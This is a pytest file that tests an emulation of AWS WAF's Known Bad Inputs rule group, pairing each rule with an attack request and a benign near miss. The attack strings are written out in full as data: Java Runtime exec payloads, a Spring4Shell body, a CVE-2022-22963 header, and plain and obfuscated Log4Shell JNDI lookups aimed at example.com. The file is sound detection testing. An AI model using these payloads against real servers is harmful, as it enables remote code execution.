"""The bundled Known bad inputs group (AWSManagedRulesKnownBadInputsRuleSet): AWS's rules, labels and actions;
each rule on AWS's documented example (or a public exploit string of the CVE AWS names) and on a benign near
miss.

https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
"""

from __future__ import annotations

import pytest

from tests.bundled.aws_baseline import (
    Documented,
    Example,
    check_blocks,
    check_documented,
    check_fidelity,
    check_loads,
    labels,
    request,
)

GROUP = "AWSManagedRulesKnownBadInputsRuleSet"
NS = "awswaf:managed:aws:known-bad-inputs:"

DOCUMENTED = [
    Documented("JavaDeserializationRCE_HEADER", NS + "JavaDeserializationRCE_Header"),
    Documented("JavaDeserializationRCE_BODY", NS + "JavaDeserializationRCE_Body"),
    Documented("JavaDeserializationRCE_URIPATH", NS + "JavaDeserializationRCE_URIPath"),
    Documented("JavaDeserializationRCE_QUERYSTRING", NS + "JavaDeserializationRCE_QueryString"),
    Documented("Host_localhost_HEADER", NS + "Host_Localhost_Header"),
    Documented("PROPFIND_METHOD", NS + "Propfind_Method"),
    Documented("ExploitablePaths_URIPATH", NS + "ExploitablePaths_URIPath"),
    Documented("Log4JRCE_HEADER", NS + "Log4JRCE_Header"),
    Documented("Log4JRCE_QUERYSTRING", NS + "Log4JRCE_QueryString"),
    Documented("Log4JRCE_BODY", NS + "Log4JRCE_Body"),
    Documented("Log4JRCE_URIPATH", NS + "Log4JRCE_URIPath"),
]
LABEL = {d.rule: d.label for d in DOCUMENTED}
JAVA = '(java.lang.Runtime).getRuntime().exec("whoami")'  # AWS's example
JAVA_URL = "(java.lang.Runtime).getRuntime().exec(%22whoami%22)"
JNDI = "${jndi:ldap://example.com/}"  # AWS's example
SPRING4SHELL = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"  # CVE-2022-22965
JSON = [("Content-Type", "application/json")]

EXAMPLES = [
    Example(
        "JavaDeserializationRCE_HEADER",
        request(headers=[("spring.cloud.function.routing-expression", f"T{JAVA}")]),  # CVE-2022-22963
        request(headers=[("X-Runtime", "java 21; exec time 12 ms")]),
    ),
    Example(
        "JavaDeserializationRCE_BODY",
        request("/app", method="POST", body=SPRING4SHELL),
        request("/app", method="POST", body="class=module-1&loader=fast"),
    ),
    Example(
        "JavaDeserializationRCE_URIPATH",
        request(f"/api/{JAVA_URL}"),
        request("/api/java/runtime/exec-summary"),
    ),
    Example(
        "JavaDeserializationRCE_QUERYSTRING",
        request(f"/run?x={JAVA_URL}"),
        request("/run?lang=java&mode=runtime"),
    ),
    Example("Host_localhost_HEADER", request(host="localhost:8080"), request(host="localhost.example.com")),
    Example("PROPFIND_METHOD", request("/dav/", method="PROPFIND"), request("/dav/", method="PROPPATCH")),
    Example("ExploitablePaths_URIPATH", request("/WEB-INF/web.xml"), request("/web-info/about")),
    Example(
        "Log4JRCE_HEADER",
        request(user_agent=JNDI),
        request(headers=[("X-Template", "${name}")]),
    ),
    Example(
        "Log4JRCE_QUERYSTRING",
        request("/?q=$%7B$%7Blower:j%7Dndi:ldap://example.com/a%7D"),  # an obfuscation seen in the wild
        request("/?q=%245+%7Bpromo%7D"),
    ),
    Example(
        "Log4JRCE_BODY",
        request("/login", method="POST", headers=JSON, body='{"user": "' + JNDI + '"}'),
        request("/login", method="POST", headers=JSON, body='{"price": "${amount}"}'),
    ),
    Example("Log4JRCE_URIPATH", request("/$%7Bjndi:ldap://example.com/%7D"), request("/jndi-docs/ldap")),
]
BY_RULE = {e.rule: e for e in EXAMPLES}


def test_rules_labels_and_actions_are_the_documented_ones() -> None:
    check_documented(GROUP, "known-bad-inputs", DOCUMENTED)


def test_every_rule_has_a_fidelity_tier() -> None:
    check_fidelity(GROUP)


def test_loads_and_validates() -> None:
    model = check_loads(GROUP)
    assert [r.name for r in model.rules] == [d.rule for d in DOCUMENTED]


def test_every_rule_has_an_example() -> None:
    assert sorted(BY_RULE) == sorted(LABEL)


@pytest.mark.parametrize("rule", [d.rule for d in DOCUMENTED])
def test_rule_fires_on_its_example(rule: str) -> None:
    assert LABEL[rule] in labels(GROUP, BY_RULE[rule].attack)


@pytest.mark.parametrize("rule", [d.rule for d in DOCUMENTED])
def test_rule_stays_quiet_on_a_near_miss(rule: str) -> None:
    assert LABEL[rule] not in labels(GROUP, BY_RULE[rule].near_miss)


def test_documented_example_in_a_header_matches_the_header_rule() -> None:
    assert LABEL["JavaDeserializationRCE_HEADER"] in labels(GROUP, request(headers=[("X-Payload", JAVA)]))


@pytest.mark.parametrize("rule", ["Log4JRCE_HEADER", "ExploitablePaths_URIPATH"])
def test_web_acl_blocks_with_the_label(rule: str) -> None:
    check_blocks(GROUP, BY_RULE[rule], LABEL[rule])


# Template and shell placeholders share the ${ of Log4j lookups but are no lookup.
PLACEHOLDERS = ["${date}", "${FORMAT:-json}", "Hello ${name}, order ${id}", "${HOME}/bin", "${amount:0.00}"]
OBFUSCATED = [  # Log4Shell spellings published with CVE-2021-44228 write-ups
    "${${::-j}${::-n}${::-d}${::-i}:rmi://example.com/a}",
    "${${env:BARFOO:-j}ndi:ldap://example.com/a}",
    "${j${::-n}di:ldap://example.com/a}",
    "${jndi:${lower:l}dap://example.com/a}",
]


@pytest.mark.parametrize("value", PLACEHOLDERS)
def test_placeholders_are_no_log4j_lookup(value: str) -> None:
    body = '{"template": "' + value + '"}'
    assert labels(GROUP, request("/t", method="POST", headers=JSON, body=body)) == ()


@pytest.mark.parametrize("value", OBFUSCATED)
def test_obfuscated_lookups_match(value: str) -> None:
    body = '{"user": "' + value + '"}'
    assert LABEL["Log4JRCE_BODY"] in labels(GROUP, request("/login", method="POST", headers=JSON, body=body))
